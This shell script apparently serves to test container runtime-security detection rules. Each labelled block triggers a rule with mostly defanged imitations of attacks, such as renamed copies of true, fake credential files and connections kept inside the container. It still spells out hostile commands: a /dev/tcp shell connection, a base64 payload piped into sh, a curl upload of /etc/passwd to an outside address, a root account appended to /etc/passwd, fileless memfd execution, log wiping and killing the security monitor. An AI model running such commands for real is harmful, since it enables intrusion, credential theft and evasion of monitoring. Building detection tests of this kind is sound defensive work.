#!/bin/sh
# Attacks on a container, each for real, run inside of it. A line that begins with "#:" names the
# rule that the commands below it raise. What they need of the image: sh, bash, perl, coreutils,
# util-linux. Nothing leaves the container: every address is its own.

case $(uname -m) in
  x86_64) userfaultfd=323 ptrace=101 memfd_create=319 setuid=105 bpf=321 delete_module=176 ;;
  *) userfaultfd=282 ptrace=117 memfd_create=279 setuid=146 bpf=280 delete_module=106 ;;
esac

# Runs a program under a name; it is a copy of true, so it does nothing.
as() {
  name=$1
  shift
  cp /bin/true "/opt/$name"
  "/opt/$name" "$@"
}

# Waits for the connections that are to be seen, on the container's own addresses.
perl -e 'use Socket; my @s; for my $p (80, 443, 2375, 3333, 4444, 6443, 8443) {
  socket my $s, PF_INET, SOCK_STREAM, 0; setsockopt $s, SOL_SOCKET, SO_REUSEADDR, 1;
  bind $s, pack_sockaddr_in($p, INADDR_ANY); listen $s, 9; push @s, $s } sleep 30' &
server=$!
sleep 0.3

# Connects to an address and port under a name.
to() {
  perl -e 'use Socket; $0 = $ARGV[0]; socket my $s, PF_INET, SOCK_STREAM, 0;
    connect $s, pack_sockaddr_in($ARGV[2], inet_aton($ARGV[1])); 1' "$@"
}

#: Tool waits for connections
# the server above is one

#: Standard stream on a network connection
perl -e 'use Socket; use POSIX; socket my $s, PF_INET, SOCK_STREAM, 0;
  connect $s, pack_sockaddr_in(443, inet_aton("127.0.0.1")); POSIX::dup2(fileno($s), 0)'

#: Command that gives a shell away
#: Connection made by a shell
bash -c 'echo hello > /dev/tcp/203.0.113.9/4444'

#: Script piped into a shell
sh -c 'echo dHJ1ZQo= | base64 -d | sh'

#: Interpreter started by a server process
#: System looked over by a server process
#: Shell spawned by a server process
perl -e '$0 = "nginx"; system "perl", "-e", "1"; system "id", "-u"; system "sh", "-c", "true"; 1' > /dev/null

#: Program run that is not from the image
as update

#: Fileless execution
#: File in memory made by a script
perl -e 'my $n = "x"; my $fd = syscall('$memfd_create', $n, 0); open my $o, ">&=", $fd;
  binmode $o; open my $i, "<", "/bin/true"; binmode $i; local $/; my $p = <$i>; syswrite $o, $p;
  system {"/proc/$$/fd/$fd"} "[kworker/0:1]"'
#: Program disguised as a thread of the kernel
# its first argument above

#: Program run from shared memory
cp /bin/true /dev/shm/x && /dev/shm/x

#: Program run from a temporary folder
#: File in a temporary folder made executable
cp /bin/true /tmp/x && chmod 755 /tmp/x && /tmp/x

#: Script run from a temporary folder
echo true > /tmp/i.sh && sh /tmp/i.sh

#: Crypto miner started
as xmrig -o stratum+tcp://203.0.113.9:3333

#: Attack tool started
as nmap -sS 203.0.113.0/24

#: Network sniffer started
as tcpdump -i any

#: Network tool in a container
as socat - tcp:203.0.113.9:80

#: Login server started in a container
as dropbear -p 2222

#: Container management tool in a container
as kubectl get pods

#: Engine's socket named on a command line
as docker -H unix:///var/run/docker.sock ps

#: Container engine reached by its socket
perl -e 'use Socket; my $at = pack_sockaddr_un("/run/docker.sock");
  socket my $engine, PF_UNIX, SOCK_STREAM, 0; bind $engine, $at; listen $engine, 1;
  socket my $s, PF_UNIX, SOCK_STREAM, 0; connect $s, $at'

#: Compiler or debugger in a container
as gcc -o x x.c

#: Search for credentials or privileged programs
find /opt -name id_rsa

#: Download or package tool in a container
as wget http://203.0.113.9/x

#: File sent away by a command
as curl -F file=@/etc/passwd http://203.0.113.9/

#: Namespace entered from a container
nsenter -t $$ -u true

#: User namespace made in a container
unshare -U true

#: Namespace made in a container
unshare -u true

#: Disk or control file system of the host mounted
mount -t cgroup -o rdma cgroup /mnt

#: File system mounted in a container
mount -t tmpfs tmpfs /mnt

#: Root folder changed in a container
chroot / true

#: File written with which the host runs programs
echo > /proc/sys/kernel/core_pattern

#: Setting of the kernel changed
echo > /proc/sys/kernel/hung_task_panic

#: Kernel's debugging files opened
cat /sys/kernel/debug/x

#: Disk of the host opened
cat /dev/sdz9

#: Memory of the host opened
head -c 1 /proc/kcore > /dev/null

#: Program overwritten through its process
perl -e 'open my $f, "+<", "/proc/self/exe"; 1'

#: Command on the root of the first process
cat /proc/1/root/etc/hostname > /dev/null

#: Kernel module loaded or removed
perl -e 'my $n = "none"; syscall('$delete_module', $n, 0)'

#: BPF program loaded from a container
perl -e 'my $a = "\0" x 128; syscall('$bpf', 5, $a, 128)'

#: Kernel reached by a call of exploits
perl -e 'syscall('$userfaultfd', 4097)'

#: Process takes hold of another
perl -e 'syscall('$ptrace', 16, '$server', 0, 0)'

#: Memory of a process opened
head -c 0 /proc/$server/mem

#: Password hashes read
ln -s /etc/shadow /tmp/harmless && cat /tmp/harmless > /dev/null
#: Link to a sensitive file made
# the one above

#: Private SSH key read
mkdir -p /root/.ssh /root/.aws && echo x > /root/.ssh/id_ed25519 && cat /root/.ssh/id_ed25519 > /dev/null

#: Credentials of a cloud or cluster read by a tool
echo x > /root/.aws/credentials && cat /root/.aws/credentials > /dev/null

#: Service account token read by a tool
mkdir -p /run/secrets/kubernetes.io/serviceaccount
echo x > /run/secrets/kubernetes.io/serviceaccount/token
cat /run/secrets/kubernetes.io/serviceaccount/token > /dev/null

#: Environment of a process read
cat /proc/1/environ > /dev/null

#: Tool to become another user in a container
su -c true

#: Set-user-ID bit set
#: Process made itself root
cp /usr/bin/perl /opt/mine && chmod 4755 /opt/mine
setpriv --reuid 33 --clear-groups /opt/mine -e 'syscall('$setuid', 0)'

#: Account made or changed in a container
useradd mallory

#: File of accounts written
echo 'eve:x:0:0::/:/bin/sh' >> /etc/passwd

#: SSH key added for logging in
echo key >> /root/.ssh/authorized_keys

#: Library forced upon all programs
: > /etc/ld.so.preload && rm /etc/ld.so.preload

#: Program started with a library from a temporary folder
LD_PRELOAD=/tmp/none.so /bin/true 2> /dev/null

#: Job written that runs by the clock
echo '* * * * * root true' > /etc/cron.d/x

#: Start-up file of shells written
echo true >> /root/.bashrc

#: Service written that starts with the system
mkdir -p /etc/systemd/system && echo > /etc/systemd/system/x.service

#: Program written into a folder of programs
cp /bin/true /usr/local/bin/ps

#: Capability given to a program
as setcap cap_setuid+ep /opt/update

#: Script written by a web server
mkdir -p /var/www && perl -e '$0 = "apache2"; open my $f, ">", "/var/www/a.php"'

#: Log removed or emptied
echo x > /var/log/auth.log && echo x > /var/log/b.log && rm /var/log/b.log

#: Log overwritten
: > /var/log/auth.log

#: Shell history removed
echo x > /root/.bash_history && rm /root/.bash_history

#: Shell started without history
HISTFILE=/dev/null bash -c true

#: Data shredded
shred -n 1 -u /tmp/i.sh

#: System folders removed
rm -r /none/usr /none 2> /dev/null; as rm -rf --no-preserve-root /none

#: File renamed as if encrypted
echo x > /opt/a.doc && mv /opt/a.doc /opt/a.doc.locked

#: File made unchangeable
chattr +i /opt/none

#: Protection switched off
as pkill -9 falco

#: Packet filter changed in a container
as iptables -F

#: Metadata service of the cloud asked by a tool
to curl 169.254.169.254 80

#: Metadata service of the cloud asked
to app 169.254.169.254 80

#: Container engine reached over the network
to app 203.0.113.9 2375

#: API of Kubernetes reached by a tool
to curl 203.0.113.9 6443

#: Connection to a port of miners or remote control
to app 203.0.113.9 3333

#: Pool of miners reached by its name
# the container's own name server says which address that is
perl -e 'use Socket; my $name = join("", map { chr(length) . $_ } qw(xmr nanopool org)) . "\0";
  my $question = $name . pack("nn", 1, 1);
  socket my $server, PF_INET, SOCK_DGRAM, 0;
  bind $server, pack_sockaddr_in(53, inet_aton("127.0.0.1"));
  socket my $client, PF_INET, SOCK_DGRAM, 0;
  send $client, pack("n6", 7, 0x100, 1, 0, 0, 0) . $question, 0,
    pack_sockaddr_in(53, inet_aton("127.0.0.1"));
  my $from = recv $server, my $asked, 512, 0;
  send $server, pack("n6", 7, 0x8180, 1, 1, 0, 0) . $question
    . pack("nnnNn", 0xc00c, 1, 1, 600, 4) . inet_aton("203.0.113.10"), 0, $from;
  recv $client, my $answer, 512, 0'
to app 203.0.113.10 443

#: Connection outside the allowed networks
to app 203.0.113.9 8443

#: Connection to a port of remote administration
to app 10.0.0.9 22

#: Packet socket opened
#: Socket of a rarely used family opened
perl -e 'socket my $s, 17, 3, 0; socket my $a, 38, 5, 0; 1'

#: Program ended by a fault
perl -e 'kill 11, $$' 2> /dev/null

kill $server
